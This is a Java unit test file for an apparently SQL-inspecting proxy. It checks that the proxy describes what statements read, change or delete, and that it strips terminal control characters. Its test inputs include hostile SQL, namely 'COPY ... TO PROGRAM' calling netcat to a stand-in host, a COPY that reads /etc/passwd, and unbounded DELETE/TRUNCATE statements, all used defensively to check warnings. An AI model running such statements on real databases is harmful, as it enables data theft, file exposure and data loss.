package dev.sallyport.proxy.cli;

import static dev.sallyport.proxy.cli.FactsSample.CUSTOMERS;
import static dev.sallyport.proxy.cli.FactsSample.ORDERS;
import static dev.sallyport.proxy.cli.FactsSample.source;
import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.policy.catalog.Catalog;
import dev.sallyport.policy.catalog.QualifiedName;
import dev.sallyport.policy.statement.Access;
import dev.sallyport.policy.statement.ColumnSource;
import dev.sallyport.policy.statement.OutputColumn;
import dev.sallyport.policy.statement.RelationUse;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FactsTextTest {
    private static final InspectScope NO_DATABASE = new InspectScope(Catalog.empty(), null, true, false);

    private static List<String> text(String sql) {
        return FactsText.lines(sql, NO_DATABASE.read(sql));
    }

    @Test
    void saysWhatAQueryShowsAndWhatItLooksAt() {
        assertThat(FactsText.lines("", FactsSample.reading(FactsSample.join())))
                .containsExactly(
                        "SELECT (reads data)",
                        "  reads    public.customers, public.orders",
                        "  shows    1 name   = customers.name",
                        "           2 total  computed from orders.amount",
                        "  looks at orders.customer_id (join), customers.region (filter, order)",
                        "  calls    pg_catalog.sum",
                        "  fingerprint 0123456789abcdef, parameters: 1");
    }

    @Test
    void columnsThatHaveNoCertainPlaceHaveNoNumber() {
        List<String> lines = FactsText.lines(
                "",
                FactsSample.reading(FactsSample.outputs(
                        new OutputColumn("now", false, false, Set.of()),
                        new OutputColumn(
                                null, true, true, Set.of(new ColumnSource(new QualifiedName("*", "t"), 0, "*"))),
                        new OutputColumn(null, false, true, Set.of(source(CUSTOMERS, "id"), source(ORDERS, "id"))))));

        assertThat(lines)
                .containsSubsequence(
                        "  shows    1 now            from no column",
                        "           … any number     = t.*",
                        "           … (name unsure)  = customers.id, orders.id");
    }

    @Test
    void tablesOfOneNameInSeveralSchemasKeepThem() {
        ColumnSource other = new ColumnSource(new QualifiedName("archive", "customers"), 3, "id");

        List<String> lines = FactsText.lines(
                "",
                FactsSample.reading(FactsSample.outputs(
                        new OutputColumn("id", false, false, Set.of(source(CUSTOMERS, "id"), other)))));

        assertThat(lines).contains("  shows    1 id  computed from archive.customers.id, public.customers.id");
    }

    @Test
    void manySourcesAreBrokenIntoLines() {
        Set<ColumnSource> sources = new HashSet<>();
        for (int i = 0; i < 60; i++) {
            sources.add(source(CUSTOMERS, "column_" + i));
        }

        List<String> lines = FactsText.lines(
                "", FactsSample.reading(FactsSample.outputs(new OutputColumn("all", false, false, sources))));

        assertThat(lines)
                .hasSizeGreaterThan(15)
                .allSatisfy(line -> assertThat(line).hasSizeLessThan(110));
        assertThat(String.join("", lines)).contains("customers.column_0,", "customers.column_59");
        assertThat(lines.get(2)).startsWith(" ".repeat(30)).contains("customers.column_");
    }

    @Test
    void saysWhatCanNotBeSeenThroughOfFunctions() {
        List<String> lines = FactsText.lines(
                "",
                FactsSample.reading(FactsSample.select(
                        List.of(),
                        List.of(),
                        List.of(),
                        List.of(FactsSample.calls(FactsSample.function("hr", "raise", "plpgsql", 'v', true), 5)))));

        assertThat(lines)
                .contains("  calls    hr.raise (plpgsql, volatile, with its owner's rights (security definer))");
    }

    @Test
    void saysWhatIsNotThereAndWhatIsNotSure() {
        RelationUse missing = new RelationUse(
                List.of("nothing"), Access.READ, Set.of(new QualifiedName("public", "nothing")), Set.of(), false, 1);
        RelationUse unsure = new RelationUse(
                List.of("t"),
                Access.READ,
                Set.of(CUSTOMERS.name(), ORDERS.name()),
                Set.of(CUSTOMERS, ORDERS),
                false,
                9);

        assertThat(FactsText.lines(
                        "",
                        FactsSample.reading(
                                FactsSample.select(List.of(missing, unsure), List.of(), List.of(), List.of()))))
                .contains("  reads    nothing (not in this database), t (may be public.customers, public.orders)");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            DELETE FROM t                            | deletes  EVERY row of t: no condition restricts them
            DELETE FROM t WHERE true                 | deletes  EVERY row of t: no condition restricts them
            DELETE FROM t WHERE a = 1                | deletes  rows of t that a condition picks
            UPDATE s.t SET a = 1                     | changes  EVERY row of s.t: no condition restricts them
            UPDATE t SET a = 1 WHERE a = a OR 1 = 1  | changes  EVERY row of t: no condition restricts them
            UPDATE t SET a = 1 WHERE b = 2           | sets     a
            INSERT INTO t VALUES (1)                 | adds to  t
            INSERT INTO t VALUES (1)                 | sets     every column
            TRUNCATE a, b                            | empties  a, b: EVERY row goes
            CREATE TABLE x (a int)                   | creates  the table x
            CREATE TABLE x AS SELECT 1               | creates  the table x
            SELECT a INTO x FROM t                   | creates  the table x
            CREATE MATERIALIZED VIEW m AS SELECT 1   | creates  the materialized view m
            CREATE INDEX i ON t (a)                  | creates  the index i on t
            CREATE TRIGGER g BEFORE INSERT ON t EXECUTE FUNCTION f() | creates  a trigger on t
            CREATE FUNCTION f() RETURNS int LANGUAGE sql AS '' | creates  a function
            CREATE ROLE bob PASSWORD 'x'             | note     carries a secret in its text
            ALTER TABLE t ADD c int                  | alters   the table t
            ALTER SYSTEM SET a.b = 1                 | alters   the server's configuration
            DROP TABLE IF EXISTS a, b                | drops    the tables a, b
            DROP INDEX a, b                          | drops    the indexes a, b
            DROP SCHEMA s CASCADE                    | drops    a schema
            DROP USER MAPPING FOR bob SERVER s       | drops    a user mapping
            GRANT SELECT ON t TO bob                 | changes  rights on t
            GRANT admin TO bob                       | changes  rights
            COMMENT ON TABLE t IS 'x'                | changes  the comment on t
            REFRESH MATERIALIZED VIEW m              | changes  m: computes its rows anew
            MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DO NOTHING | changes  t: adds, changes or deletes rows as its branches say
            COPY t FROM STDIN                        | note     takes its rows from the client
            COPY t TO STDOUT                         | note     sends its rows to the client
            COPY t FROM '/etc/passwd'                | note     reads or writes a file on the server
            COPY t TO PROGRAM 'nc evil 1'            | note     runs a program on the server
            DO $$ anything $$                        | note     runs code that can't be seen through
            CALL f(1)                                | calls    f
            CREATE TRIGGER x AFTER INSERT ON t EXECUTE FUNCTION f() | attaches f
            LOCK t                                   | locks    t
            VACUUM t                                 | works on t
            SET LOCAL search_path = 'hr'             | setting  search_path to 'hr' for the transaction
            RESET ALL                                | setting  every setting to its default or what isn't one literal
            EXECUTE p                                | does     executes the prepared statement p
            CLOSE ALL                                | does     closes the cursor (every one)
            SELECT FROM t WHERE t.a = 1 ORDER BY t.a | looks at t.a (filter, order)
            """)
    void saysWhatAStatementDoes(String sql, String line) {
        assertThat(text(sql)).contains("  " + line);
    }

    @Test
    void goesInside() {
        assertThat(text("EXPLAIN ANALYZE DELETE FROM t"))
                .containsSubsequence(
                        "EXPLAIN (changes rows)",
                        "  note     really executes what it explains",
                        "  inside:",
                        "    DELETE (changes rows)",
                        "      deletes  EVERY row of t: no condition restricts them");
        assertThat(text("PREPARE p AS UPDATE t SET a = $1 WHERE b = $2"))
                .containsSubsequence(
                        "  does     prepares the statement p",
                        "  inside:",
                        "    UPDATE (changes rows)",
                        "      changes  rows of t that a condition picks");
        assertThat(text("COPY (TABLE secrets) TO STDOUT")).containsSubsequence("  inside:", "      reads    secrets");
    }

    @Test
    void aConditionInsideDoesNotPassForTheOwn() {
        assertThat(text("WITH d AS (DELETE FROM u RETURNING *) UPDATE t SET a = 1 FROM d WHERE t.id = d.id"))
                .contains("  changes  rows of t, perhaps EVERY one: its own condition or one inside doesn't restrict")
                .contains("      deletes  EVERY row of u: no condition restricts them")
                .doesNotContain("  deletes  EVERY row of u: no condition restricts them");
    }

    @Test
    void numbersSeveralStatements() {
        List<String> lines = text("BEGIN;;\n DELETE FROM t\n WHERE a = 'x'; COMMIT");

        assertThat(lines)
                .containsSubsequence(
                        "1. BEGIN (begins, ends or marks a transaction)",
                        "2. DELETE (changes rows)",
                        "  text     DELETE FROM t WHERE a = ?",
                        "3. COMMIT (begins, ends or marks a transaction)");
    }

    @Test
    void saysWhenNamesMayChangeTheirMeaning() {
        InspectScope scope = new InspectScope(
                new Catalog(1, 180000, Set.of("public"), List.of(CUSTOMERS), List.of()), List.of("public"), true, true);
        String sql = "SET search_path = hr; SELECT FROM customers";

        assertThat(FactsText.lines(sql, scope.read(sql)))
                .contains("a bare name was taken for all that it may stand for");
        assertThat(scope.read("SELECT FROM customers; SET search_path = hr").doubtful())
                .isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " \n ", ";;", "-- nothing", "/* nothing */"})
    void nothingIsSaidToBeNothing(String sql) {
        assertThat(text(sql)).containsExactly("nothing: there is no statement in it");
    }

    @Test
    void pointsToWhatIsNotUnderstood() {
        List<String> lines = text("SELECT *\n\tFORM customers x y");

        assertThat(lines).hasSize(4);
        assertThat(lines.get(0)).startsWith("not understood: ");
        assertThat(lines.subList(1, 4)).containsExactly("  line 2, column 2:", "     FORM customers x y", "     ^");
    }

    @Test
    void namesCanNotPassForOthers() {
        assertThat(text("SELECT FROM \"a, public.b\"")).contains("  reads    \"a, public.b\"");
        assertThat(text("SELECT FROM \"a.b\", \"Upper\", \"q\"\"q\", größe, \"*\""))
                .contains("  reads    \"Upper\", \"a.b\", \"q\"\"q\", *, größe");
        assertThat(text("TABLE \"t (not in this database)\"")).contains("  reads    \"t (not in this database)\"");
    }

    @Test
    void namesCanNotSteerTheTerminal() {
        List<String> lines = new ArrayList<>(text("SELECT FROM \"a\u001b[2J\u202e\nb\r\u2028c\u009bd\""));
        lines.addAll(text("SELECT \u001b]0;x\u0007"));
        lines.addAll(text("SELECT \"\u001b\" \u202e FROM t x y z"));
        lines.addAll(text("PREPARE \"p\u001b[1m\" AS SELECT; SET a.b = E'\\x1b[1m\\n  reads    nothing'"));

        assertThat(lines)
                .allSatisfy(line -> assertThat(line.codePoints())
                        .noneMatch(c -> Character.isISOControl(c) || c == 0x202e || c == 0x2028));
    }
}
